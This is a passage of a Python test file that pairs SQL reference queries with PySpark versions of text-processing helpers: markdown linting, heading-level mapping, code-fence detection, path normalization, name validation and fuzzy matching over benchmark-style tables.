    md = F.concat(F.lit("# My Great Title:\n\n### Deep\n\ntext\n- item\n\n```\n{\"a\": 1}\n```\n\n[click here](x)\n"), F.regexp_replace("text", r"[#`~*+\[-]|(?m)^\s*\d+\.", "."))
    return C.lint(t.documents.where("text is not null").select("doc_id", md.alias("text")), "doc_id", "text")


@query(
    "signature_extract",
    """SELECT p_partkey, kind, name, signature, doc FROM part, LATERAL (VALUES ('function', 'f' || p_partkey, 'f' || p_partkey || '(a: int, *b, c=1) -> str', 'Doc.'), ('class', 'A', 'A(Base)', NULL), ('function', 'm', 'm(self)', NULL)) v(kind, name, signature, doc)""",
)
def signature_extract(t: Tables):
    code = F.concat(F.lit("import os\n\ndef f"), F.col("p_partkey").cast("string"), F.lit("(a: int, *b, c=1) -> str:\n    \"\"\"Doc.\"\"\"\n    return os.name\n\nclass A(Base):\n    def m(self): pass\n"))
    return C.signatures(t.part.select("p_partkey", code.alias("code")), "p_partkey", "code")


@query("fn_import_modules", "SELECT p_partkey, unnest(['m' || p_partkey % 3, 'numpy', 'pandas']) AS module FROM part")
def fn_import_modules(t: Tables):
    code = F.concat(F.lit("import os, numpy as np\nfrom pandas.core import x\nimport m"), (F.col("p_partkey") % 3).cast("string"))
    return C.imports(t.part.select("p_partkey", code.alias("code")), "p_partkey", "code")


@query("fn_close_matches", "SELECT p_partkey, 0 AS place, p_name AS match FROM part")
def fn_close_matches(t: Tables):
    """Names that lack a letter, among the names that there are: a vocabulary of a few dozen. Tests compare the ratio and the order of several matches."""
    names = [r[0] for r in t.part.select("p_name").distinct().orderBy("p_name").limit(10_000).collect()]
    return C.close_matches(t.part.select("p_partkey", F.concat(F.substring("p_name", 1, 1), F.expr("substring(p_name, 3)")).alias("name")), "p_partkey", "name", names, 1)


#: Lines of a text without marks of its own, with a head that has some.
_PLAIN = "regexp_replace(coalesce(text, ''), '[#`~-]', '.', 'g')"


@query("win_heading_level_map", "SELECT doc_id, line_no, level, emitted FROM documents, (VALUES (1, 1, 1), (2, 3, 2), (3, 4, 3), (4, 3, 2), (5, 2, 2), (9, 5, 3)) v(line_no, level, emitted)")
def win_heading_level_map(t: Tables):
    md = F.concat(F.lit("# A\n### B\n#### C\n### D\n## E\n```\n# no\n```\n##### F\n"), F.regexp_replace(F.coalesce("text", F.lit("")), "[#`~-]", "."))
    return C.heading_levels(t.documents.select("doc_id", md.alias("text")), "doc_id", "text")


@query("win_fence_mask", f"SELECT doc_id, line_no::INT AS line_no, line_no IN (1, 2, 3, 6, 7, 11) AS protected FROM (SELECT doc_id, unnest(range(1, 13 + len(string_split({_PLAIN}, chr(10))))) AS line_no FROM documents)")
def win_fence_mask(t: Tables):
    md = F.concat(F.lit("---\nx: 1\n---\ntext\n````\ncode\n```\n````\n---\n~~~\n```\n~~~\n"), F.regexp_replace(F.coalesce("text", F.lit("")), "[#`~-]", "."))
    return C.fence_mask(t.documents.select("doc_id", md.alias("text")), "doc_id", "text")


@query("fn_strip_heading_colon", "SELECT doc_id, line, CASE line WHEN 1 THEN '# Notes on ' || lang ELSE '## Source ' || source || ' ##' END AS after FROM documents, (VALUES (1), (4)) v(line) WHERE lang IS NOT NULL AND source IS NOT NULL")
def fn_strip_heading_colon(t: Tables):
    """Headings that end in one colon, in two, and without."""
    md = F.concat(F.lit("# Notes on "), "lang", F.lit(":\n\ntext:\n## Source "), "source", F.lit(": ##\n### Both::\n### Plain\n"))
    d = t.documents.where("lang is not null and source is not null").select("doc_id", md.alias("text"))
    return C.lint(d, "doc_id", "text").where("rule = '3.6'").select("doc_id", "line", "after")


@query("fn_infer_fence_lang", "SELECT p_partkey, (['json', 'python', 'bash', 'yaml', 'text', 'bash', 'json', 'python'])[p_partkey % 8 + 1] AS lang FROM part")
def fn_infer_fence_lang(t: Tables):
    code = forms(['{"a": {k}}', "# {n}\ndef f{k}():\n  pass", "$ ls -l /{k}", "# {b}\nkey{k}: value\nb: 2", "plain words {n}", "#!/bin/sh\n{n}", '  [{k}, "{n}"]', "print({k})"], "p_partkey", k="p_partkey", n="p_name", b="p_brand")
    return t.part.select("p_partkey", C.fence_language(code).alias("lang"))


@query("fn_generic_link", "SELECT p_partkey, p_partkey % 5 IN (0, 1) AS generic FROM part")
def fn_generic_link(t: Tables):
    line = forms(["see [Click here](x{k}.md)", "[{n}](a) or [ THIS page ](/{k})", "see [{n}](here{k}.md)", "![here]({k}.png) {n}", "[here {k}](x)"], "p_partkey", k="p_partkey", n="p_name")
    return t.part.select("p_partkey", C.generic_link(line).alias("generic"))


@query("fn_sentence_case", "SELECT page_id, 'The great API guide to ' || CASE WHEN length(regexp_extract(url, '://([a-z]+)', 1)) = 1 THEN upper(regexp_extract(url, '://([a-z]+)', 1)) ELSE regexp_extract(url, '://([a-z]+)', 1) END || '. Then ' || (page_id % 90 + 1) || '. GitHub and `Code`' AS title FROM pages")
def fn_sentence_case(t: Tables):
    host = F.initcap(F.regexp_extract("url", "://([a-z]+)", 1))
    title = F.concat(F.lit("The Great Api Guide To "), host, F.lit(". Then "), (F.col("page_id") % 90 + 1).cast("string"), F.lit(". github And `Code`"))
    return C.sentence_case(t.pages.select("page_id", title.alias("title")), "page_id", "title")


@query(
    "fn_path_normalize",
    """SELECT page_id, CASE page_id % 7 WHEN 0 THEN 'docs/guide/a/c' || page_id || '.py' WHEN 1 THEN 'out' || page_id || '.md' WHEN 2 THEN 'docs/guide/d' || page_id || '/' WHEN 3 THEN 'abs/p' || page_id || '.txt' END AS path FROM pages""",
)
def fn_path_normalize(t: Tables):
    forms = ("./a//b/../c%.py", "../../out%.md", "d%/", "/abs/p%.txt", "https://x.y/%", "#top%", "../../../up%.md")
    raw = F.replace(F.array(*[F.lit(x) for x in forms])[(F.col("page_id") % 7).cast("int")], F.lit("%"), F.col("page_id").cast("string"))
    return C.normalized_paths(t.pages.select("page_id", raw.alias("raw"), F.lit("docs/guide").alias("folder")), "page_id", "raw", "folder")


@query("fn_path_overlap_concat", "SELECT p_partkey, 'a/' || p_brand || '/c' || CASE p_partkey % 3 WHEN 0 THEN '/d' WHEN 1 THEN '/x/' || p_size ELSE '/' || p_brand || '/c/e' END AS path FROM part")
def fn_path_overlap_concat(t: Tables):
    a = F.array(F.lit("a"), F.col("p_brand"), F.lit("c"))
    b = F.when(F.col("p_partkey") % 3 == 0, F.array(F.col("p_brand"), F.lit("c"), F.lit("d"))).when(F.col("p_partkey") % 3 == 1, F.array(F.lit("x"), F.col("p_size").cast("string"))).otherwise(F.array(F.lit("c"), F.col("p_brand"), F.lit("c"), F.lit("e")))
    return t.part.select("p_partkey", F.array_join(T.overlap_concat(a, b), "/").alias("path"))


@query("fn_extract_topics", "SELECT p_partkey, array_to_string(list_sort(['title ' || lower(p_name), 'code ' || lower(p_brand), 'src/a' || p_partkey || '.py']), '|') AS topics FROM part")
def fn_extract_topics(t: Tables):
    md = F.concat(F.lit("# Title "), "p_name", F.lit("\nuse `Code "), "p_brand", F.lit("` in src/a"), F.col("p_partkey").cast("string"), F.lit(".py, `code "), F.lower("p_brand"), F.lit("`\n"))
    return t.part.select("p_partkey", F.array_join(F.array_sort(C.topics(md)), "|").alias("topics"))


@query("fn_infer_extension", "SELECT o_orderkey, (['.pptx', '.docx', '.xlsx', '.pdf', '.md', '.py', NULL])[o_orderkey % 7 + 1] AS ext FROM orders")
def fn_infer_extension(t: Tables):
    q = forms(["make {s} Slides of {k}", "{k}: a Word file", "an Excel sheet for {c}", "{s}{k} as PDF", "README text {k}", "run {k} in python", "nothing of {c}"], "o_orderkey", k="o_orderkey", c="o_custkey", s="o_orderstatus")
    return t.orders.select("o_orderkey", T.preferred_extension(q).alias("ext"))


@query("fn_valid_name", "SELECT p_partkey, p_partkey % 8 IN (0, 5) AS ok FROM part")
def fn_valid_name(t: Tables):
    q = forms(["good-name-{k}", "-bad{k}", "two--hyphens{k}", "Upper{k}", "{k}-", "x{z}", "under_score{k}", "a" * 62 + "-{k}-{z}"], "p_partkey", k="p_partkey", z="p_size")
    return t.part.select("p_partkey", T.valid_name(q).alias("ok"))


@query("extension_rollup", "SELECT lang, source, count(*) AS n FROM documents GROUP BY ROLLUP (lang, source)")
def extension_rollup(t: Tables):
    return t.documents.rollup("lang", "source").agg(F.count(F.lit(1)).alias("n"))


@query("win_row_renumber", "SELECT doc_id, row_number() OVER (PARTITION BY lang ORDER BY doc_id) AS place FROM documents")
def win_row_renumber(t: Tables):
    return numbered(t.documents.select("doc_id", "lang"), ["lang"], F.col("doc_id"), [], "place").select("doc_id", "place")
